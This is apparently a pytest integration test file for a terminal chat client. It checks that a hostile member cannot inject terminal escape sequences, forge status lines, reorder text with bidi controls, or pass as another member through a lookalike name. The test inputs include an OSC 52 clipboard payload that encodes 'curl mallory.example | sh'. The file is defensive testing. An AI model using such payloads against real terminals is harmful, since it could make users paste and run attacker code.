"""What other members send cannot drive Alice's terminal or pass for someone else
(issue 9, items 14, 15 and 17).

Alice runs the real terminal client (`python -m atopos_client`) against a real
relay; Mallory (and Bob) are Python clients in the same room. Every assertion
is on the exact bytes Alice's terminal was given.
"""

from __future__ import annotations

import asyncio
import fcntl
import os
import pty
import signal
import struct
import sys
import termios
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest

from atopos_client.codes import member_code
from atopos_client.connection import AdmissionRefused, RoomClient
from atopos_client.events import MemberJoined
from atopos_client.keys import MemberKeys
from tests.support.live_site import live_site
from tests.support.processes import ROOT, base_env
from tests.support.terminal import Terminal, read_until

pytestmark = pytest.mark.integration

BIDI_CONTROLS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
DONE = "done."  # short: it fits on one row of a 40-column terminal


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with live_site(tmp_path_factory.mktemp("terminal-content")) as running:
        yield running


@asynccontextmanager
async def alices_terminal(site, *options: str) -> AsyncIterator[tuple[Terminal, str]]:
    """Alice's terminal client in a new room, and the room's link."""
    alice = await Terminal.start("create", site.url("").rstrip("/"), "--name", "Alice", *options)
    try:
        line = await alice.wait_for_text("Room link (share it privately): ")
        yield alice, line.decode().split(": ", 1)[1].strip()
    finally:
        alice.kill()


async def own_code(terminal: Terminal) -> str:
    line = await terminal.wait_for_text("* You are [")
    return line.decode().split("[", 1)[1].split(" you]", 1)[0]


async def mallory_says(site, link: str, name: str, *texts: str) -> RoomClient:
    """Mallory joins as ``name`` and sends ``texts``, then a last plain line."""
    mallory = await RoomClient.join(link, name)
    await mallory.next_event_of(MemberJoined, timeout=20)  # Alice's hello: she reads us now
    for text in [*texts, DONE]:
        await mallory.send_text(text)
    return mallory


def assert_inert(output: bytes) -> None:
    """No ESC, BEL, 8-bit CSI, or bidi control reached the terminal."""
    assert b"\x1b" not in output
    assert b"\x07" not in output
    assert "\x9b".encode() not in output
    for control in BIDI_CONTROLS:
        assert control.encode() not in output, f"U+{ord(control):04X}"


def test_mallorys_osc_52_cannot_write_alices_clipboard(site):
    """OSC 52 (set clipboard) arrives as visible text on Mallory's message line."""

    async def scenario() -> None:
        async with alices_terminal(site) as (alice, link):
            payload = "\x1b]52;c;Y3VybCBtYWxsb3J5LmV4YW1wbGUgfCBzaA==\x07"
            mallory = await mallory_says(site, link, "Mallory", payload)
            await alice.wait_for_text(DONE)
            output, _ = await alice.quit()
            code = member_code(mallory.session.member.ed_pk).encode()
            assert b"[" + code + b"] Mallory: \\x1b]52;c;Y3VybCBtYWxsb3J5" in output
            assert_inert(output)
            await mallory.leave()

    asyncio.run(scenario())


def test_mallory_cannot_overwrite_a_line_or_forge_the_safety_phrase(site):
    """Cursor-up + erase-line + a fake '* Safety phrase', a newline-forged status line and
    an 8-bit CSI all stay inside Mallory's message: no line of hers starts with '* '."""

    async def scenario() -> None:
        async with alices_terminal(site) as (alice, link):
            mallory = await mallory_says(
                site,
                link,
                "Mallory",
                "\x1b[1A\x1b[2K* Safety phrase: forged forged forged forged forged",
                "ok\n* Safety phrase: forged words on a new line\n* Bob left",
                "\x9b2J\x7f\r* forged after a carriage return",
            )
            await alice.wait_for_text(DONE)
            output, _ = await alice.quit()
            assert_inert(output)
            code = member_code(mallory.session.member.ed_pk).encode()
            lines = output.split(b"\n")
            assert not [line for line in lines if line.startswith(b"* Safety phrase: forged")]
            assert not [line for line in lines if line.startswith(b"* Bob left")]
            for line in lines:
                if b"forged" in line or b"Bob left" in line:
                    assert line.startswith((b"[" + code + b"] Mallory: ", b"    | ")), line
            assert b"    | * Safety phrase: forged words on a new line" in output
            assert b"\\x9b2J\\x7f\\x0d* forged" in output
            await mallory.leave()

    asyncio.run(scenario())


def test_a_right_to_left_override_in_a_name_cannot_reorder_alices_terminal(site):
    """Mallory named '<RLO>ecilA' (shown reversed as 'Alice') and writing bidi isolates
    reaches Alice as plain left-to-right text."""

    async def scenario() -> None:
        async with alices_terminal(site) as (alice, link):
            mallory = await mallory_says(
                site, link, "\u202eecilA", "pay \u2067\u202e0001\u2069 please"
            )
            await alice.wait_for_text(DONE)
            output, _ = await alice.quit()
            assert_inert(output)
            code = member_code(mallory.session.member.ed_pk).encode()
            assert b"* [" + code + b"] ecilA is here" in output
            assert b"] ecilA: pay <U+2067><U+202E>0001<U+2069> please" in output
            await mallory.leave()

    asyncio.run(scenario())


def test_a_member_named_alice_you_does_not_look_like_alice(site):
    """Alice's own entry carries 'you' inside the code brackets, where no name can reach;
    Mallory's 'Alice (you)' shows after her own code, outside them."""

    async def scenario() -> None:
        async with alices_terminal(site) as (alice, link):
            alice_code = await own_code(alice)
            mallory = await mallory_says(site, link, "Alice (you)")
            mallory_code = member_code(mallory.session.member.ed_pk)
            await alice.wait_for_text(DONE)
            await alice.type("/members")
            await alice.wait_for_text(f"[{mallory_code}] Alice (you) (member)")
            output, _ = await alice.quit()
            assert f"* [{alice_code} you] Alice (owner)".encode() in output
            marked = [line for line in output.split(b"\n") if b" you]" in line]
            assert marked
            assert all(f"[{alice_code} you]".encode() in line for line in marked)
            await mallory.leave()

    asyncio.run(scenario())


def test_an_impostor_with_a_lookalike_name_is_flagged_with_both_codes(site):
    """Bob joins; Mallory joins as 'Bob' spelled in Cyrillic. Alice is warned, with both codes."""

    async def scenario() -> None:
        async with alices_terminal(site) as (alice, link):
            bob = await RoomClient.join(link, "Bob")
            bob_code = member_code(bob.session.member.ed_pk)
            await alice.wait_for_text(f"* [{bob_code}] Bob is here")
            mallory = await mallory_says(site, link, "\u0412\u043eb")
            mallory_code = member_code(mallory.session.member.ed_pk)
            warning = await alice.wait_for_text("* Warning: ")
            assert (
                warning
                == (
                    f"* Warning: [{bob_code}] Bob and [{mallory_code}] \u0412\u043eb look alike; "
                    "tell them apart by their codes"
                ).encode()
            )
            await alice.quit()
            await bob.leave()
            await mallory.leave()

    asyncio.run(scenario())


def test_an_impostor_named_like_alice_herself_is_flagged(site):
    """Mallory joins as 'AIice' (capital I for l): Alice is warned that it looks like her."""

    async def scenario() -> None:
        async with alices_terminal(site) as (alice, link):
            alice_code = await own_code(alice)
            mallory = await mallory_says(site, link, "AIice")
            mallory_code = member_code(mallory.session.member.ed_pk)
            warning = await alice.wait_for_text("* Warning: ")
            assert warning.startswith(
                f"* Warning: [{alice_code} you] Alice and [{mallory_code}] AIice".encode()
            )
            await alice.quit()
            await mallory.leave()

    asyncio.run(scenario())


def grind_prefix(target: bytes, digits: int) -> MemberKeys:
    """Mallory's attack, scaled down: keys whose code starts with ``digits`` of ``target``'s."""
    wanted = target[: digits // 2]
    while True:
        keys = MemberKeys(ed_seed=os.urandom(32), x_secret=os.urandom(32))
        if keys.ed_pk.startswith(wanted):
            return keys


def test_newcomers_whose_codes_share_four_digits_are_told_apart(site):
    """Mallory grinds a key whose code starts like Bob's and knocks with him: Alice sees two
    different 16-digit codes, '/admit' with the shared digits admits no one, and the full
    code admits Bob alone; Mallory, declined by her code, stays out."""

    async def scenario() -> None:
        async with alices_terminal(site, "--rule", "approval") as (alice, link):
            bob_keys = MemberKeys.generate()
            mallory_keys = await asyncio.to_thread(grind_prefix, bob_keys.ed_pk, 4)
            bob_code, mallory_code = member_code(bob_keys.ed_pk), member_code(mallory_keys.ed_pk)
            assert bob_code[:4] == mallory_code[:4]
            assert bob_code != mallory_code
            bob = asyncio.create_task(RoomClient.join(link, "Bob", member=bob_keys))
            await alice.wait_for_text(
                f"asks to come in: have them read you their code, then /admit {bob_code}"
            )
            mallory = asyncio.create_task(RoomClient.join(link, "Bob", member=mallory_keys))
            await alice.wait_for_text(f"/admit {mallory_code}")

            await alice.type(f"/admit {bob_code[:4]}")
            refusal = await alice.wait_for_text("* Not done: more than one code")
            assert bob_code.encode() in refusal
            assert mallory_code.encode() in refusal
            assert not bob.done()
            assert not mallory.done()

            await alice.type(f"/admit {bob_code}")
            bob_client = await asyncio.wait_for(bob, 20)
            await alice.type(f"/decline {mallory_code[:9]}")
            with pytest.raises(AdmissionRefused):
                await asyncio.wait_for(mallory, 20)
            await alice.wait_for_text(f"* Declined [{mallory_code}]")
            await alice.quit()
            await bob_client.leave()

    asyncio.run(scenario())


def test_padding_cannot_make_alices_terminal_wrap_a_forged_status_line(site, tmp_path):
    """On a 40-column terminal, Mallory pads her message so that the terminal's own wrap
    would put '* Safety phrase: forged' at column 0. Alice's client folds the line first:
    every row fits, and the forged text starts an indented row."""

    async def scenario() -> None:
        link_file = tmp_path / "room.link"
        pid, terminal = pty.fork()
        if pid == 0:  # the child: Alice's client on a 40-column pseudo-terminal
            fcntl.ioctl(0, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 40, 0, 0))
            os.chdir(ROOT)
            arguments = ["create", site.url("").rstrip("/"), "--name", "Alice"]
            os.execve(  # noqa: S606 - the test's own fixed command, no shell involved
                sys.executable,
                [sys.executable, "-m", "atopos_client", *arguments, "--link-file", str(link_file)],
                base_env(COLUMNS="", LINES="", ATOPOS_LINK=""),
            )
        try:
            shown = await asyncio.to_thread(read_until, terminal, b"* You are", 20)
            prefix = "[0000 0000 0000 0000] Mallory: "
            padding = "x" * (40 - len(prefix))
            mallory = await mallory_says(
                site, link_file.read_text().strip(), "Mallory",
                padding + "* Safety phrase: forged forged forged forged forged",
            )  # fmt: skip
            shown += await asyncio.to_thread(read_until, terminal, DONE.encode(), 20)
            rows = shown.split(b"\r\n")
            hers = [row for row in rows if b"Mallory" in row or row.startswith(b"    | ")]
            assert len(hers) >= 4
            assert all(len(row.decode()) <= 40 for row in hers), hers
            assert not [row for row in rows if row.startswith(b"* Safety phrase: forged")]
            assert [r for r in rows if r.startswith(b"    | ") and b"* Safety phrase: forged" in r]
            await mallory.leave()
        finally:
            os.close(terminal)
            os.kill(pid, signal.SIGTERM)
            os.waitpid(pid, 0)

    asyncio.run(scenario())
